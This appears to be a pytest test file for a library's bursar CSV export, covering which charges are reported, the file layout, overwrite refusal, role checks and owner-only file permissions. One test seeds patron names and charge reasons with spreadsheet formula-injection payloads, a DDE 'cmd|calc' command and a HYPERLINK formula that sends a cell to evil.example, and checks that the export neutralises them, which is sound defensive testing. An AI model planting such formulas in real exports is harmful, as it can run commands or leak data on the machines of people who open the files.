"""The bursar report: which charges go in, the file layout, and marking them reported."""

from __future__ import annotations

import csv
import os
import stat
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import select

from app.library import library_settings
from app.library.actors import Actor
from app.library.errors import Conflict, InvalidInput, PermissionDenied
from app.library.runtime import Runtime
from app.money import bursar, charge_views, charges
from db.models import Charge, ChargeKind, Item, ItemKind, Patron
from tests.signed_in import as_office

ActorAt = Callable[[str, str], Actor]


def read_rows(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def add_charge(rt: Runtime, amount: str, *, is_ill: bool, estimated: bool = False) -> int:
    with rt.db.transaction() as s:
        patron = s.scalar(select(Patron).where(Patron.patron_id == "T00456789"))
        item = s.scalar(select(Item).where(Item.kind == ItemKind.OWNED))
        assert patron is not None and item is not None
        charge = Charge(
            patron_id=patron.id,
            item_id=item.id,
            kind=ChargeKind.OTHER,
            amount=Decimal(amount),
            estimated=estimated,
            is_ill=is_ill,
            reason=f"test charge {amount}",
            created_at=rt.clock.now(),
        )
        s.add(charge)
        s.flush()
        return charge.id


def test_export_reports_the_fee_and_holds_back_the_estimate(
    demo_rt: Runtime, actor_at: ActorAt, tmp_path: Path
) -> None:
    path = tmp_path / "bursar-2026-11-02.csv"
    result = bursar.export(demo_rt, actor_at("office", "WS-ILL"), path)
    assert result.reported == 1 and result.held_back == 1
    assert result.total == Decimal("30.00")
    raw = path.read_bytes()
    assert raw.startswith(b"charge_id,patron_id,last_name,first_name,charge_type,amount,")
    assert b"\r\n" in raw
    rows = read_rows(path)
    assert list(rows[0]) == list(bursar.COLUMNS)
    assert len(rows) == 1
    row = rows[0]
    assert row["patron_id"] == "T00890123"
    assert (row["last_name"], row["first_name"]) == ("Fontaine", "Zoë")
    assert row["charge_type"] == "PROCESSING_FEE"
    assert row["amount"] == "30.00"
    assert row["estimated"] == "N" and row["ill"] == "Y"
    assert row["transcript_hold"] == "Y"
    assert row["item_barcode"].startswith("ILL") and row["ill_request_number"]
    views = {
        v.kind: v
        for v in charge_views.list_charges(demo_rt, as_office(demo_rt), patron_id="T00890123")
    }
    fee = views[ChargeKind.PROCESSING_FEE]
    assert fee.reported_at == demo_rt.clock.now() and fee.transcript_hold
    assert "Reported to the bursar on 2026-11-02; transcript hold placed" in fee.note
    assert views[ChargeKind.REPLACEMENT].reported_at is None


def test_nothing_is_reported_twice_and_the_actual_bill_goes_next(
    demo_rt: Runtime, actor_at: ActorAt, tmp_path: Path
) -> None:
    office = actor_at("office", "WS-ILL")
    bursar.export(demo_rt, office, tmp_path / "first.csv")
    again = bursar.export(demo_rt, office, tmp_path / "second.csv")
    assert again.reported == 0 and "no file was written" in again.message
    assert not (tmp_path / "second.csv").exists()
    replacement = next(
        v
        for v in charge_views.list_charges(demo_rt, as_office(demo_rt), patron_id="T00890123")
        if v.kind is ChargeKind.REPLACEMENT
    )
    charges.record_actual_bill(demo_rt, office, replacement.id, "91.00")
    third = bursar.export(demo_rt, office, tmp_path / "third.csv")
    assert third.reported == 1
    rows = read_rows(tmp_path / "third.csv")
    assert [(r["charge_type"], r["amount"], r["estimated"]) for r in rows] == [
        ("REPLACEMENT", "91.00", "N")
    ]


def test_estimates_go_in_when_the_library_says_so(
    demo_rt: Runtime, actor_at: ActorAt, tmp_path: Path
) -> None:
    with demo_rt.db.transaction() as s:
        library_settings.save(s, hold_estimated_charges=False, bursar_transcript_hold=False)
    result = bursar.export(demo_rt, actor_at("office", "WS-ILL"), tmp_path / "all.csv")
    assert result.reported == 2 and result.total == Decimal("115.00")
    rows = read_rows(tmp_path / "all.csv")
    assert {r["estimated"] for r in rows} == {"Y", "N"}
    assert {r["transcript_hold"] for r in rows} == {"N"}


def test_ill_charges_have_no_minimum_but_own_items_do(
    demo_rt: Runtime, actor_at: ActorAt, tmp_path: Path
) -> None:
    small_ill = add_charge(demo_rt, "1.50", is_ill=True)
    small_own = add_charge(demo_rt, "10.00", is_ill=False)
    big_own = add_charge(demo_rt, "25.00", is_ill=False)
    preview = bursar.preview(demo_rt, as_office(demo_rt))
    reported = {c.id for c in preview.to_report}
    assert small_ill in reported and big_own in reported and small_own not in reported
    held = {h.charge.id: h.why for h in preview.held_back}
    assert "below the $25.00 minimum" in held[small_own]
    bursar.export(demo_rt, actor_at("office", "WS-ILL"), tmp_path / "r.csv")
    ids = {int(r["charge_id"]) for r in read_rows(tmp_path / "r.csv")}
    assert ids == reported


def test_existing_file_is_never_overwritten_and_nothing_is_marked(
    demo_rt: Runtime, actor_at: ActorAt, tmp_path: Path
) -> None:
    path = tmp_path / "taken.csv"
    path.write_text("keep me", encoding="utf-8")
    with pytest.raises(Conflict, match="never overwritten"):
        bursar.export(demo_rt, actor_at("office", "WS-ILL"), path)
    assert path.read_text(encoding="utf-8") == "keep me"
    assert all(
        v.reported_at is None for v in charge_views.list_charges(demo_rt, as_office(demo_rt))
    )


def test_bad_file_names_and_roles_are_refused(
    demo_rt: Runtime, actor_at: ActorAt, tmp_path: Path
) -> None:
    with pytest.raises(InvalidInput, match=r"\.csv"):
        bursar.export(demo_rt, actor_at("office", "WS-ILL"), tmp_path / "report.txt")
    with pytest.raises(InvalidInput, match="does not exist"):
        bursar.export(demo_rt, actor_at("office", "WS-ILL"), tmp_path / "no" / "r.csv")
    with pytest.raises(PermissionDenied):
        bursar.export(demo_rt, actor_at("desk", "SE"), tmp_path / "r.csv")
    assert not (tmp_path / "r.csv").exists()
    assert all(
        v.reported_at is None for v in charge_views.list_charges(demo_rt, as_office(demo_rt))
    )


CMD = "=cmd|'/Ccalc.exe'!A0"  # no space: the file splits "first last" at the first one
LINK = '=HYPERLINK("http://evil.example/?"&A1,"Smith")'


def test_formula_names_titles_and_reasons_open_as_text_and_amounts_stay_numbers(
    demo_rt: Runtime, actor_at: ActorAt, tmp_path: Path
) -> None:
    with demo_rt.db.transaction() as s:
        patron = s.scalar(select(Patron).where(Patron.patron_id == "T00890123"))
        assert patron is not None
        patron.first_name, patron.last_name = CMD, LINK
        for charge in s.scalars(select(Charge)):
            charge.reason = "@SUM(1+1)*cmd|' /C calc'!A0"
    credit = add_charge(demo_rt, "-12.50", is_ill=True)
    with demo_rt.db.transaction() as s:
        row = s.get(Charge, credit)
        assert row is not None
        row.reason = "\t+1+1"
    path = tmp_path / "bursar.csv"
    bursar.export(demo_rt, actor_at("office", "WS-ILL"), path)
    rows = read_rows(path)
    fontaine = next(r for r in rows if r["patron_id"] == "T00890123")
    assert (fontaine["last_name"], fontaine["first_name"]) == ("'" + LINK, "'" + CMD)
    assert fontaine["reason"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert fontaine["amount"] == "30.00"
    refund = next(r for r in rows if int(r["charge_id"]) == credit)
    assert refund["amount"] == "-12.50"  # our own number: the bursar imports it as one
    assert refund["reason"] == "'\t+1+1"
    text_cells = [c for r in rows for k, c in r.items() if k != "amount"]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in text_cells)


@pytest.mark.skipif(os.name != "posix", reason="Windows has no owner-only mode bits")
def test_the_report_file_is_readable_by_its_owner_only(
    demo_rt: Runtime, actor_at: ActorAt, tmp_path: Path
) -> None:
    old = os.umask(0)  # a desk whose umask would let everyone read new files
    try:
        bursar.export(demo_rt, actor_at("office", "WS-ILL"), tmp_path / "bursar.csv")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "bursar.csv").stat().st_mode) == 0o600
